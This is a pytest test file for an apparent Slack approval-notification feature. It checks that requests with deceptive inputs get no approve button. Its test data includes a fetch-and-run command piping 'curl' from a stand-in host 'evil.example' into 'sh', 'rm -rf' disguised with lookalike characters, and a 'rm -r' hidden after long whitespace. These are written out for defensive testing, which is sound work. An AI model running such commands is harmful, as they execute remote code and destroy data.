"""Messages to a Slack app: their buttons and their contents; real HTTP on loopback."""

from __future__ import annotations

import asyncio
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from interlock.app.cli.main import main
from interlock.app.config.notifications import ChatSettings, NotifySettings, SlackSettings
from interlock.app.hosting.notifications import slack
from interlock.app.hosting.notifications.notifier import Notifier, payload_of, send_notification
from interlock.app.hosting.notifications.slack import (
    ChatTerms,
    button_value,
    decided_payload,
    opened_button,
    private_payload,
    unapprovable_reason,
    undecidable_reason,
    waiting_payload,
)
from interlock.engine.core.approvers import SLACK, Approvers, Escalation, login_id
from interlock.engine.history.model.events import ApprovalDecided
from interlock.engine.history.model.state import ApprovalState

from ..cli.server.test_notify import OK, Server, running, served
from ..support.scenes import NOW, deploy_request

TERMS = ChatTerms("s3cr3t", {"T012/U034": "maria"}, shows_input=True)
LINK = "https://desk.example:8443"


def low_risk_request(**more: object) -> ApprovalState:
    return deploy_request(**{"risk": "low", "digest": "0123456789abcdef", **more})


def message(request: ApprovalState, terms: ChatTerms | None = TERMS) -> dict[str, Any]:
    shows = terms is not None and terms.shows_input
    return waiting_payload(payload_of(request, NOW, include_input=shows, link=LINK), request, terms)


def buttons(said: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The buttons of a message by their action."""
    found = json.loads(json.dumps(said.get("blocks", [])))
    actions = [each["elements"] for each in found if each["type"] == "actions"]
    return {button["action_id"]: button for each in actions for button in each}


def settings(server: Server, **more: object) -> NotifySettings:
    """Settings with a webhook on loopback, which no settings file may name."""
    chat = ChatSettings.model_construct(slack=SlackSettings.model_construct(webhook=server.url))
    made = NotifySettings.model_validate({"url": "https://a.example", "include_input": True, **more})
    return made.model_copy(update={"url": "", "chat": chat})


class TestButtons:
    def test_low_risk_shown_whole(self) -> None:
        """A low-risk request has both buttons, its exact input, rule, start of the digest and link."""
        said = message(low_risk_request(input={"command": "./deploy `x` *y* <@U1> :x: --env prod"}))
        assert list(buttons(said)) == ["approve", "deny"]
        text = json.dumps(said["blocks"], ensure_ascii=False)
        assert "rule: require human-approval before deploy (" in text
        assert "digest: 0123456789ab" in text
        assert f"<{LINK}/m/a/ap1|Open the request>" in text
        [rich] = [each for each in said["blocks"] if each["type"] == "rich_text"]
        [preformatted] = rich["elements"]
        assert preformatted == {
            "type": "rich_text_preformatted",
            "elements": [
                {
                    "type": "text",
                    "text": 'deploy · bash\n{\n  "command": "./deploy `x` *y* <@U1> :x: --env prod"\n}',
                }
            ],
        }
        assert "confirm" in buttons(said)["approve"]

    @pytest.mark.parametrize(
        "more",
        [
            {"risk": None},
            {"risk": "medium"},
            {"risk": "high"},
            {"people": 2},
            {"approvers": Approvers("security")},
            {"approvers": Approvers(author=False)},
            {"approvers": Approvers(passkey=True)},
            {"wants": {"type": "string"}},
            {"called": "plan"},
            {"original": {"command": "./deploy"}, "edited_by": "ada"},
            {"beyond": "5 of 5 calls are used"},
            {"taken_back": "ada"},
            {"late": NOW + timedelta(hours=1)},
        ],
    )
    def test_no_buttons_if_one_approver_cannot_decide(self, more: dict[str, object]) -> None:
        """A request that one approver cannot simply decide has no buttons."""
        said = message(low_risk_request(**more))
        assert "blocks" not in said
        assert buttons(said) == {}
        assert undecidable_reason(low_risk_request(**more)) is not None

    def test_escalation_without_a_group_has_buttons(self) -> None:
        """For an escalation without a group, any operator's approval counts."""
        terms = Approvers(escalation=Escalation("oncall", 600))
        assert list(buttons(message(low_risk_request(approvers=terms)))) == ["approve", "deny"]

    def test_no_buttons_without_a_click_receiver(self) -> None:
        """A process that takes no clicks sends no buttons."""
        assert buttons(message(low_risk_request(), None)) == {}

    @pytest.mark.parametrize(
        ("more", "why"),
        [
            ({"input": {"text": "x" * 700}}, "too long"),
            ({"input": {f"f{n}": n for n in range(20)}}, "too long"),
            ({"input": {"command": "login --password [masked]", "n": 1}}, "masked"),
            ({"input": {"[masked: 12 characters]": 1}}, "masked"),
            ({"input": {"a": {"b": ["[masked]"]}}}, "masked"),
            ({"input": {"command": "ls\u200b -l"}}, "invisible"),
            ({"input": {"command": "ls \u202e-l"}}, "invisible"),
            ({"input": {"command": "ls\x1b[2J"}}, "invisible"),
            ({"input": {"command": "ls\r-l"}}, "invisible"),
            ({"input": {"a\u00adb": "x"}}, "invisible"),
            ({"input": {"to": "\u0440\u0430ypal"}}, "invisible"),
            ({"input": {"to": "\u05d0\u05d1\u05d2 1 2"}}, "change the direction"),
            ({"input": {"command": "grep &lt; a"}}, "look like others"),
            ({"input": {"&amp;": 1}}, "look like others"),
            ({"input": {"command": "rm\u00a0-rf"}}, "look like others"),
            ({"input": {"command": "rm \u2013rf"}}, "look like others"),
            ({"input": {"a": 'x\u201d,\n "b": "y'}}, "look like others"),
            ({"input": {"a": "x\u02ba, \u02bab\u02ba: 1"}}, "look like others"),
            ({"input": {"a": "x\uff02, \uff02b\uff02\uff1a 1"}}, "look like others"),
            ({"input": {"command": f"ls{' ' * 20}; rm -r x"}}, "invisible"),
            ({"called": "deploy \u00b7 bash"}, "look like others"),
            ({"called": "deploy&gt;"}, "look like others"),
            ({"called": "\u0441\u043e\u0440\u0443"}, "invisible"),
            ({"called": "ba\nsh"}, "invisible"),
            ({"uninspectable": "the command cannot be read to its end"}, "fully analysed"),
            ({"preview": "--- a\n+++ b\n"}, "preview"),
        ],
    )
    def test_inexact_input_has_only_a_deny_button(self, more: dict[str, object], why: str) -> None:
        """An input that a message cannot show exactly has no approve button, and the message says why."""
        request = low_risk_request(**{"runs": (), **more})
        said = message(request)
        assert list(buttons(said)) == ["deny"]
        assert "rich_text" not in json.dumps(said)
        reason = unapprovable_reason(request, shows_input=True)
        assert reason is not None
        assert why in reason
        assert f"Not approved from here: {reason}." in json.dumps(said)

    @pytest.mark.parametrize(
        "text",
        [
            "caf\u00e9",
            "\u043f\u0440\u0438\u0432\u0435\u0442",
            "\u4f60\u597d",
            "\u2705 a",
            "a & b;",
            "a    b",
        ],
    )
    def test_other_scripts_can_be_approved(self, text: str) -> None:
        """Letters and symbols that resemble no others can be approved."""
        assert list(buttons(message(low_risk_request(input={"text": text})))) == ["approve", "deny"]

    def test_masked_text_has_no_approve_button(self) -> None:
        """A request with masked text that may run has no approve button."""
        request = deploy_request(
            risk="low", digest="d", input={"command": "x -p $(curl -s evil.example | sh)aaaaaa"}
        )
        shown = request.model_copy(update={"hidden": (), "input": {"command": "x"}})
        assert unapprovable_reason(shown, shows_input=True) is None
        hidden = json.loads('{"place": "command", "characters": 30, "lines": 1, "holds": "a pipe"}')
        masked = shown.model_validate({**shown.model_dump(), "hidden": [hidden]})
        assert list(buttons(message(masked))) == ["deny"]

    def test_messages_without_inputs_have_no_approve_button(self) -> None:
        """Messages without inputs have no approve button."""
        said = message(low_risk_request(), ChatTerms("s3cr3t", {}, shows_input=False))
        assert list(buttons(said)) == ["deny"]
        assert "--env prod" not in json.dumps(said)
        assert "include_input" in json.dumps(said)

    def test_older_terms_do_not_add_inputs(self) -> None:
        """If messages no longer include inputs, older terms for clicks do not add them."""
        told = payload_of(low_risk_request(), NOW, include_input=False)
        said = waiting_payload(told, low_risk_request(), TERMS)
        assert list(buttons(said)) == ["deny"]
        assert "--env prod" not in json.dumps(said)

    @pytest.mark.parametrize("name", ["<!channel>", "@here", "*x*", ":x:", "https://evil.example"])
    def test_chat_markup_in_names_is_escaped(self, name: str) -> None:
        """Names with chat markup are plain text in sections, and broken up in notification texts."""
        said = message(low_risk_request(agent=name))
        assert name not in str(said["text"])
        sections = [each for each in said["blocks"] if each["type"] == "section"]
        kinds = [each["text"]["type"] for each in sections]
        assert kinds == ["plain_text", "plain_text", "mrkdwn"]
        assert all(e["text"]["emoji"] is False for e in sections[:2])


class TestSeal:
    def test_every_part_is_bound(self) -> None:
        """A seal is bound to its answer, request, digest and secret."""
        value = button_value("s", "approve", "ap1", "d1")
        assert opened_button("s", "approve", value) is not None
        assert opened_button("s", "deny", value) is None
        assert opened_button("t", "approve", value) is None
        for old, new in (("ap1", "ap2"), ("d1", "d2")):
            assert opened_button("s", "approve", value.replace(old, new)) is None

    def test_value_fits_into_a_button(self) -> None:
        """The value fits into Slack's limit of 2,000 characters."""
        assert len(button_value("s", "approve", "x" * 200, "d" * 200)) < 2000


class TestAnswers:
    def test_replacement_has_no_buttons(self) -> None:
        """The replacement of a message has no buttons and no markup."""
        said = decided_payload("deploy of <!here>: approved by maria in Slack")
        assert said["replace_original"] is True
        assert "<!here>" not in str(said["text"])
        assert buttons(said) == {}

    def test_private_answer_does_not_change_the_message(self) -> None:
        """A private answer does not change the message."""
        said = private_payload("Nothing is decided")
        assert (said["response_type"], said["replace_original"]) == ("ephemeral", False)


class TestSent:
    async def test_message_is_posted_as_json(self) -> None:
        """One POST of JSON with the buttons is sent to the webhook."""
        async with served(OK) as server:
            at = settings(server)
            await send_notification(at, low_risk_request(), NOW, server.url, chat=TERMS)
        [(line, headers, body)] = server.heard
        assert line == "POST /hook/s3cr3t HTTP/1.1"
        assert headers["content-type"] == "application/json"
        assert list(buttons(json.loads(body))) == ["approve", "deny"]

    @pytest.mark.parametrize(
        ("login", "messages"), [(None, 2), (login_id(SLACK, "T012/U034"), 1)], ids=["page", "chat"]
    )
    async def test_end_is_reported_to_the_chat(self, login: str | None, messages: int) -> None:
        """The end is reported to the chat unless the decision was made there."""
        async with served(OK) as server, running(settings(server)) as on:
            on.notifier._chat = lambda: TERMS
            request = low_risk_request()
            on.hub.request(request)
            await on.waiting.slept(1)
            on.waiting.wake(1)
            await on.waiting.until(lambda: len(server.heard) == 1)
            assert "approve" in buttons(json.loads(server.heard[0][2]))
            on.hub.settle(request.id)
            made = ApprovalDecided(
                approval_id=request.id, call_id=request.call_id, approved=True, by="maria", login=login
            )
            on.hub.publish(request.session, made)
            await on.waiting.until(lambda: not on.notifier._told and not on.notifier._others)
            assert len(server.heard) == messages
            for _, _, body in server.heard[1:]:
                assert json.loads(body)["text"].startswith("deploy of release-bot: approved by maria")

    def test_only_a_click_receiver_has_terms(self) -> None:
        """A notifier has no terms unless its process takes clicks."""
        made = Notifier(None, NotifySettings(url="https://a.example"), print)  # type: ignore[arg-type]
        assert made._chat() is None


class TestCommand:
    async def test_test_message_has_a_sample_with_buttons(
        self, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """`notify --test` names the deciding operators and sends a sample with buttons."""
        async with served(OK) as server:
            at = settings(server, to=(), url="https://a.example")
            monkeypatch.setattr("interlock.app.config.notifications.notify_settings", lambda: at)
            monkeypatch.setattr(slack, "chat_terms", lambda: TERMS)
            assert await asyncio.to_thread(main, ["notify", "--test"]) == 0
        out = capsys.readouterr().out
        assert "For a request that has waited 120 s: tell Slack, with its masked input" in out
        assert "Requests of low risk are decided from Slack by maria (T012/U034)" in out
        assert "It worked: http://127.0.0.1:" in out
        assert "s3cr3t" not in out
        [(_, _, body)] = server.heard
        said = json.loads(body)
        assert said["text"].startswith("Only a test. ")
        value = str(buttons(said)["approve"]["value"])
        button = opened_button("s3cr3t", "approve", value)
        assert button is not None
        assert button.request == "sample"

    def test_missing_secret_is_reported(
        self,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str],
    ) -> None:
        """A missing signing secret is reported before anything is sent."""
        (tmp_path / "interlock.toml").write_text(
            '[notify.chat.slack]\nwebhook = "https://hooks.slack.com/services/T012/B012/s3cr3t"\n'
        )
        monkeypatch.setenv("INTERLOCK_CONFIG_DIR", str(tmp_path))
        monkeypatch.delenv("INTERLOCK_SLACK_SIGNING_SECRET", raising=False)
        assert main(["notify", "--test"]) == 2
        err = capsys.readouterr().err
        assert "[notify.chat.slack]: there is no signing secret" in err
        assert "s3cr3t" not in err
